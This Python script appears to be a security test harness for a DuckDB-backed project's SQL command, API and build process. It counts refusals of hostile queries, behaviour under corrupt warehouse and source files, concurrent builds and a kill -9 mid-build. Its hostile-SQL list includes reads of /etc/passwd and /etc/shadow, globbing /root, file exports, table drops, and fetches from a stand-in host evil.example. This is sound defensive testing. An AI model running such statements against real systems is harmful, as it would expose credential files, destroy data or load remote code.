"""Hostile-input campaign on the warehouse side (issue 12, items 1, 7, 10, 11, 12): the figures of
docs/security.md, reproducible.

    .venv/bin/python scripts/probe_warehouse_security.py [--mirror DIR]

Builds a warehouse from the mirror in a temporary folder, then attacks it: hostile ``vigie sql``,
corrupt warehouse files behind every reading endpoint, corrupt source rows, overlapping builds with
readers, ``kill -9`` of a build, CLI usage errors. Counts attempts, clean refusals, 5xx, data lost.
Writes benchmarks/results/security_warehouse.json.
"""

from __future__ import annotations

import argparse
import fcntl
import json
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
RESULTS = ROOT / "benchmarks" / "results" / "security_warehouse.json"

HOSTILE_SQL = [
    "COPY region TO '{tmp}/out.csv'",
    "copy (select 'x') to '{wh}' (format csv)",
    "select * from read_csv('/etc/passwd', header=false, delim=':')",
    "select * from read_text('/etc/passwd')",
    "select * from read_blob('/etc/shadow')",
    "select * from glob('/root/*')",
    "from '/etc/passwd'",
    "summarize select * from read_csv('/etc/passwd')",
    "select * from read_parquet('http://evil.example/x.parquet')",
    "attach '{tmp}/other.duckdb' as other",
    "create table pirate as select 1 as x",
    "create temp table pirate as select 1 as x",
    "insert into region select * from region",
    "delete from commune",
    "drop table commune",
    "install sqlite from 'http://evil.example/'",
    "load httpfs",
    "set enable_external_access = true",
    "pragma enable_profiling",
    "explain analyze copy region to '{tmp}/out.csv'",
    "select 1; copy region to '{tmp}/out.csv'",
    "export database '{tmp}/dump'",
    "use memory",
    "detach wh",
    "checkpoint",
    "select count(*) from range(1000000000000) a",  # runs for hours: the time limit stops it
]
READERS = [
    "/api/v1/territoires/62139",
    "/api/v1/territoires/Nullepart-sur-Mer",
    "/api/v1/circonscriptions",
    "/api/v1/circonscriptions/contours",
    "/api/v1/circonscriptions/circo-62-08",
    "/api/v1/circonscriptions/circo-62-08/contour",
    "/api/v1/programme/territoires?region=32&phase=2",
    "/health",
]
USAGE = [["frobnicate"], ["territoire", "62139", "--frob"], ["territoire"], ["sql"],
         ["territoire", "62139", "--phase", "x"], ["sql", "select 1", "--max-rows", "0"], ["programme", "frobnicate"]]


def vigie(*args, env=None, timeout=600):
    return subprocess.run([sys.executable, "-m", "vigie_industrie", *args], capture_output=True, text=True,
                          env=env, timeout=timeout)


def one_line(stderr: str) -> bool:
    lines = stderr.strip().splitlines()
    return len(lines) == 1 and lines[0].startswith("Erreur : ") and "Traceback" not in stderr


def probe_sql(wh: Path, tmp: Path) -> dict:
    attempts = refused = leaked = files_created = 0
    before, listing = wh.read_bytes(), sorted(p.name for p in tmp.iterdir())
    for template in HOSTILE_SQL:
        attempts += 1
        result = vigie("sql", template.format(tmp=tmp, wh=wh), "-w", str(wh), "--timeout", "2")
        refused += result.returncode == 8 and one_line(result.stderr)
        leaked += "root:" in result.stdout
        now = sorted(p.name for p in tmp.iterdir())
        files_created += len(set(now) - set(listing))
    sqlite_file = tmp / "store.db"
    with sqlite3.connect(sqlite_file) as db:
        db.execute("create table t(x)")
    sq = vigie("sql", "select 1", "-w", str(sqlite_file))
    return {
        "attempts": attempts, "clean_refusals": refused, "rows_leaked": leaked, "files_created": files_created,
        "warehouse_changed": wh.read_bytes() != before,
        "sqlite_as_warehouse": {"exit": sq.returncode, "one_line": one_line(sq.stderr),
                                "download_attempted": "download" in sq.stderr.lower()},
    }


def probe_corrupt_warehouse(good: Path, tmp: Path) -> dict:
    from fastapi.testclient import TestClient

    from vigie_industrie.api.app import create_app
    from vigie_industrie.config import Settings
    from vigie_industrie.programme import models, users
    from vigie_industrie.programme.db import Store

    corruptions = {
        "random": lambda p: p.write_bytes(os.urandom(1 << 20)),
        "truncated": lambda p: p.write_bytes(good.read_bytes()[: good.stat().st_size // 2]),
        "empty": lambda p: p.write_bytes(b""),
        "sqlite": lambda p: sqlite3.connect(p).execute("create table t(x)").connection.commit(),
    }
    counts = {"requests": 0, "503_problem_json": 0, "other_5xx": 0, "text_plain": 0}
    for name, corrupt in corruptions.items():
        folder = tmp / f"corrupt-{name}"
        folder.mkdir()
        bad = folder / "warehouse.duckdb"
        corrupt(bad)
        url = f"sqlite:///{folder / 'vigie.db'}"
        app = create_app(Settings(warehouse=bad, database_url=url, env="test"))
        store = Store(url)
        with store.transaction() as session:
            user = models.User(email="admin@test.invalid", nom="admin", role="admin", password_hash="x")
            session.add(user)
            session.flush()
            token, _ = users.issue_token(session=session, user=user)
        client = TestClient(app, raise_server_exceptions=False)
        for path in READERS:
            response = client.get(path, headers={"Authorization": f"Bearer {token}"})
            counts["requests"] += 1
            kind = response.headers.get("content-type", "")
            if response.status_code == 503 and (kind.startswith("application/problem+json") or path == "/health"):
                counts["503_problem_json"] += 1
            elif response.status_code >= 500:
                counts["other_5xx"] += 1
            counts["text_plain"] += kind.startswith("text/plain")
        store.dispose()
    return counts


def _shadow(mirror: Path, target: Path) -> Path:
    for path in mirror.rglob("*"):
        if path.is_file():
            dest = target / path.relative_to(mirror)
            dest.parent.mkdir(parents=True, exist_ok=True)
            dest.symlink_to(path)
    return target


def _set_cell(line_no: int, column: str, value: str):
    """An edit of a CSV file's lines: cell ``column`` of line ``line_no`` (1-based) set to ``value``."""
    import csv
    import io

    def edit(lines: list[str]) -> list[str]:
        header = next(csv.reader([lines[0]]))
        cells = next(csv.reader([lines[line_no - 1]]))
        cells[header.index(column)] = value
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\n").writerow(cells)
        return lines[: line_no - 1] + [buffer.getvalue()] + lines[line_no:]

    return edit


def probe_corrupt_sources(mirror: Path, good: Path, tmp: Path) -> dict:
    ti2 = "anct-territoires-industrie/ti_phase2_2023-2027_groupements.csv"
    bodacc = "bodacc-liquidations-plansde/liquidations_entreprises_20salaries_plus_2020-11_2021-10.csv"
    edits = {
        "header repeated in TI phase 2": (ti2, lambda ls: ls[:100] + [ls[0]] + ls[100:]),
        "headcount in words (BODACC)": (bodacc, _set_cell(7, "EFFECTIFS", "cinquante et un")),
        "impossible date (BODACC)": (bodacc, _set_cell(12, "DATE", "2021-02-30")),
    }
    out = {"attempts": 0, "refused_one_line": 0, "built_exit_0": 0, "warehouse_changed": 0, "messages": {}}
    for label, (relative, edit) in edits.items():
        copy = _shadow(mirror, tmp / ("mirror-" + str(out["attempts"])))
        target = copy / relative
        lines = target.read_text(encoding="utf-8").splitlines(keepends=True)
        target.unlink()
        target.write_text("".join(edit(lines)), encoding="utf-8")
        wh = tmp / f"src-{out['attempts']}.duckdb"
        shutil.copy(good, wh)
        before = wh.read_bytes()
        result = vigie("build", "--mirror", str(copy), "--warehouse", str(wh))
        out["attempts"] += 1
        out["built_exit_0"] += result.returncode == 0
        out["refused_one_line"] += result.returncode == 3 and one_line(result.stderr)
        out["warehouse_changed"] += wh.read_bytes() != before
        out["messages"][label] = result.stderr.strip()
    return out


def _lock_held(wh: Path) -> bool:
    lock = wh.with_name(wh.name + ".lock")
    if not lock.exists():
        return False
    with open(lock, "a") as handle:
        try:
            fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except BlockingIOError:
            return True
        fcntl.flock(handle, fcntl.LOCK_UN)
        return False


def probe_builds(mirror: Path, good: Path, tmp: Path) -> dict:
    from vigie_industrie.warehouse import query

    wh = tmp / "concurrent.duckdb"
    shutil.copy(good, wh)
    cmd = [sys.executable, "-m", "vigie_industrie", "build", "--mirror", str(mirror), "--warehouse", str(wh)]
    first = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    while not _lock_held(wh) and first.poll() is None:
        time.sleep(0.02)
    second = vigie("build", "--mirror", str(mirror), "--warehouse", str(wh))
    reads = failures = conflicting = 0
    while first.poll() is None:
        try:
            query.run_readonly(wh, query_text="select count(*) from commune")
            reads += 1
        except Exception as exc:  # noqa: BLE001
            failures += 1
            conflicting += "Conflicting lock" in str(exc)
    first.communicate()
    # kill -9 in the middle of a build
    before = wh.read_bytes()
    victim = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    while victim.poll() is None and not any(
        p.stat().st_size > 1_000_000 for p in wh.parent.glob(wh.name + ".building*") if p.exists()
    ):
        time.sleep(0.02)
    os.kill(victim.pid, signal.SIGKILL)
    victim.wait()
    intact = wh.read_bytes() == before
    communes = query.run_readonly(wh, query_text="select count(*) from commune").rows[0][0]
    return {
        "first_build_exit": first.returncode, "second_build_exit": second.returncode,
        "second_build_message": second.stderr.strip(),
        "reads_during_build": reads, "read_failures": failures, "conflicting_lock": conflicting,
        "kill_9_previous_intact": intact, "communes_after_kill": communes,
    }


def probe_usage() -> dict:
    exits = [vigie(*argv).returncode for argv in USAGE]
    unexpected = sum("Erreur inattendue" in vigie(*argv).stderr for argv in USAGE[:2])
    return {"attempts": len(USAGE), "exit_2": exits.count(2), "unexpected_error_messages": unexpected}


def main() -> int:
    from vigie_industrie.config import default_mirror
    from vigie_industrie.warehouse import build

    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--mirror", type=Path, default=default_mirror())
    args = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="vigie-probe-") as tmp_s:
        tmp = Path(tmp_s)
        good = tmp / "good" / "warehouse.duckdb"
        good.parent.mkdir()
        build.build(warehouse=good, base_dir=args.mirror)
        sql_tmp = tmp / "sql"
        sql_tmp.mkdir()
        wh = sql_tmp / "wh.duckdb"
        shutil.copy(good, wh)
        result = {
            "sql": probe_sql(wh, sql_tmp),
            "corrupt_warehouse": probe_corrupt_warehouse(good, tmp),
            "corrupt_sources": probe_corrupt_sources(args.mirror, good, tmp),
            "builds": probe_builds(args.mirror, good, tmp),
            "cli_usage": probe_usage(),
        }
    RESULTS.parent.mkdir(parents=True, exist_ok=True)
    RESULTS.write_text(json.dumps(result, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")
    print(json.dumps(result, indent=2, ensure_ascii=False))
    return 0


if __name__ == "__main__":
    sys.exit(main())
